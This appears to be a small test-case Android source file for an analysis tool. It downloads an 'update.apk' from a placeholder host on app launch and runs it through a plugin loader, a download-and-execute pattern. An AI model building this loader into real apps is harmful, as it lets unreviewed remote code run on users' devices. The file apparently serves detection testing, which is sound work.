// The app fetches code and runs it, in classes of its own.
package cases.loader_download;

import android.app.Activity;
import android.os.Bundle;
import java.io.File;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        File file = new File(getFilesDir(), "update.apk");
        Fetcher.fetch("https://collect.example.org/update", file);
        new Plugin(file).start(this);
    }
}
